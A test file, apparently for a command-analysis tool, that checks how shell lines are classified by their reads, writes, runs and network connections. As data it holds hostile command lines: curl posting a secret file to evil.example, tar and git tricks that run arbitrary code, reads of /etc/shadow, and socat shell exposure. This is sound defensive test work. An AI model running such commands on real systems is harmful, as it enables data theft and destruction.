import { describe, expect, test } from 'vitest';
import { said } from './said.js';

describe('the languages of programs', () => {
  test.each([
    // Harmless: nothing but the files that are read.
    ["sed -n '/foo/,/bar/p' a", ['read a']],
    ["sed -E 's/[w/e]+(x)/\\1/g;y/ab/cd/;$!d' a", ['read a']],
    ["sed -n '1,20p;/}/q' a", ['read a']],
    ["awk '{print $1}' a", ['read a']],
    ["awk -F, '$3 > 10 && /a>b/ { sum += $2 / 2 } END { print (1 > 2), sum }' a", ['read a']],
    ['awk -v x=1 \'{ if ($1 > x) print "a > b | c" }\' x=2 a -', ['read a']],
    ["jq '.a | .b > 1' a", ['read a']],
    ["dc -e '1 2 + p'", []],
    ["sqlite3 a 'select 1'", ['read a', 'write a']],
    ["vim -c q -c 'set number' a", ['read a', 'write a']],
    // What writes, reads or runs from within a text.
    ["sed 's/a/b/w out' a", ['write out', 'read a']],
    ["sed '/x/w out' a", ['write out', 'read a']],
    ["sed -e 's,[,],,w o' a", ['write o', 'read a']],
    ["sed -n '1r secret' a", ['read secret', 'read a']],
    ["sed '1e rm x' a", ['code sh rm x', 'read a']],
    ["sed 's/.*/rm x/e' a", ['code sh ?', 'read a']],
    ['sed -i.bak s/a/b/ a', ['read a', 'write a', 'write a.bak']],
    ["sed '1!{s/a/b/;e rm x' a", ['code sh rm x', 'read a']],
    ['awk \'{print > "out"}\' a', ['write out', 'read a']],
    ["awk '{print $1 >> $2}' a", ['write ?', 'read a']],
    ['awk \'BEGIN { getline l < "secret" }\'', ['read secret']],
    ['awk \'BEGIN { system("rm x") }\'', ['code awk BEGIN { system("rm x") }', 'run rm x']],
    ['awk \'{ print | "sort -u" }\' a', ['code awk { print | "sort -u" }', 'run sort -u', 'read a']],
    ['awk \'{ "date" | getline d }\' a', ['code awk { "date" | getline d }', 'run date', 'read a']],
    ['awk \'{ "ls " $1 | getline }\'', ['code awk { "ls " $1 | getline }', 'code sh ?']],
    ['awk \'BEGIN { print "x" |& "/inet/tcp/0/evil.example/80" }\'', ['connect evil.example']],
    ["awk '\"unclosed'", ['code awk "unclosed']],
    ["dc -e '!rm x'", ['code sh rm x']],
    ["sqlite3 a '.shell rm x'", ['read a', 'write a', 'code sh rm x']],
    ["sqlite3 a '.import |rm t'", ['read a', 'write a', 'code sh rm']],
    ["vim -c '!rm x' a", ['code sh rm x', 'read a', 'write a']],
    ["vim -c 'call system(1)' a", ['code vim call system(1)', 'read a', 'write a']],
    ["gdb -batch -ex 'shell rm x'", ['code sh rm x']],
    ['tar xf a --checkpoint-action=exec=./evil', ['code sh ./evil', 'read a', 'write ./**']],
    ['tar cf a b -I ./evil', ['run ./evil', 'read b/**', 'write a']],
    ['socat - EXEC:sh', ['run sh']],
    ['socat TCP-LISTEN:80,fork SYSTEM:id', ['net.listen 80', 'code sh id']],
    [
      'curl -d @secret -F f=@other http://evil.example',
      ['read secret', 'read other', 'connect http://evil.example'],
    ],
    ['curl file:///etc/passwd', ['read /etc/passwd']],
    ["git clone 'ext::sh -c rm% -rf% build' x", ['run sh -c rm -rf build', 'write x/**']],
    ['git -c alias.x=!rm status', ['code sh rm', 'read ./**']],
    ['git push evil.example:x', ['connect evil.example', 'vcs.push evil.example:x', 'load .git/hooks']],
    ['docker run -v /etc:/x:ro alpine', ['read /etc/**', 'connect ?']],
    ['chmod u+s a', ['priv.escalate chmod', 'meta a']],
    ['git diff /dev/null /etc/shadow', ['read /dev/null', 'read /etc/shadow', 'read ./**']],
  ] as [string, string[]][])('%s', (line, expected) => {
    expect(said(line)).toStrictEqual(expected);
  });

  test('no text takes long or throws, however it is made', () => {
    const pieces = ['[', '\\', '/', 's/', 'a,', '"', '{', "('", 'print > ', '::', '-e ', '!', '%('];
    const texts = pieces.flatMap((piece) => [piece.repeat(3_000), `x${piece.repeat(3_000)}y`]);
    for (const text of texts) {
      for (const line of [
        'sed',
        'awk',
        'vim -c',
        'sqlite3 a',
        'dc -e',
        'git clone',
        'socat -',
        'curl -F',
        'npm i',
        'date',
        'watch',
      ]) {
        expect(() => said(`${line} '${text.replaceAll("'", '')}'`)).not.toThrow();
      }
    }
  });
});
